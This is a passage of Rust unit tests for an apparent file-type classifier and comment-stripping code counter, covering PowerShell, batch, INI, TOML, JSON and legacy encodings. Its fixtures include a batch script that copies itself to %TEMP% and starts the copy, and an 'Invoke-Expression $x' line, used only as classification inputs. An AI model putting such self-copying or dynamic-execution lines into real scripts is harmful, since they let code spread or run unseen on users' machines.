        assert_eq!(code("Invoke-Expression $x\n"), 0);
        assert_eq!(
            code("# a\n\n  // b\n' c\nrem d\nREM\n:: e\n; f\nx = 1\n"),
            35
        );
        assert_eq!(code("<# a\n b #>\nx"), 11);
        assert_eq!(code("/* a */ /* b\n*/\nx"), 16);
        assert_eq!(code("<!-- a -->\nx"), 11);
        assert_eq!(code("$doc = @'\nline\n'@\nx"), 18);
        assert_eq!(code("$doc = @\"\nline\n\"@\nx"), 18);
        // Open to the end.
        assert_eq!(code("/* never closed\nx"), 17);
        assert_eq!(code("$a = @'\nnever closed"), 20);
        // Not comments: a word that starts with "rem", code before `@'`.
        assert_eq!(code("remove-item x\n"), 0);
        assert_eq!(code("Write-Host @'\nx\n'@\n"), 0);
    }

    #[test]
    fn binary_is_data() {
        assert_eq!(classify(&[0x00, 0x01, 0x02, 0xff]), known::DATA);
    }

    #[test]
    fn ini_sections_are_not_json_arrays() {
        // Past the window, so that only the head is judged.
        let mut desktop = b"[Desktop Entry]\nType=Application\nExec=libreoffice %U\n".to_vec();
        for i in 0..300 {
            desktop.extend(format!("GenericName[x{i}]=XSLT based filters\n").bytes());
        }
        assert_eq!(classify(&desktop), known::TEXT);
        let mut toml = b"[tool.poetry]\nname = \"x\"\n".to_vec();
        toml.extend(b"# comment line\n".repeat(400));
        assert_eq!(classify(&toml), known::TEXT);
        // Arrays, whole and cut.
        assert_eq!(classify(b"[true, false, null]"), known::JSON);
        assert_eq!(classify(b"[ 1, 2 ]"), known::JSON);
        let mut cut = b"[{\"a\": 1}".to_vec();
        cut.extend(b", {\"a\": 1}".repeat(600));
        assert_eq!(classify(&cut), known::JSON);
    }

    #[test]
    fn text_in_a_legacy_encoding_is_read_as_text() {
        // Windows-1252 and KOI8-R: bytes that are not UTF-8.
        let batch =
            b"@echo off\r\nrem Gr\xfc\xdfe\r\ncopy %0 %TEMP%\\a.bat\r\nstart %TEMP%\\a.bat\r\n";
        assert_eq!(classify(batch), known::BATCH);
        let mail =
            b"From: a@example.com\r\nSubject: Gr\xfc\xdfe\r\nMIME-Version: 1.0\r\n\r\nK\xf6ln\r\n";
        assert_eq!(classify(mail), known::EMAIL);
        assert_eq!(
            classify(b"\xf0\xd2\xc9\xd7\xc5\xd4, \xcd\xc9\xd2\n"),
            known::TEXT
        );
        // Control bytes past one in a hundred are still data.
        let mut b = b"caf\xe9 ".repeat(40);
        b.extend([1u8, 2, 3, 4, 5]);
        assert_eq!(classify(&b), known::DATA);
    }
}
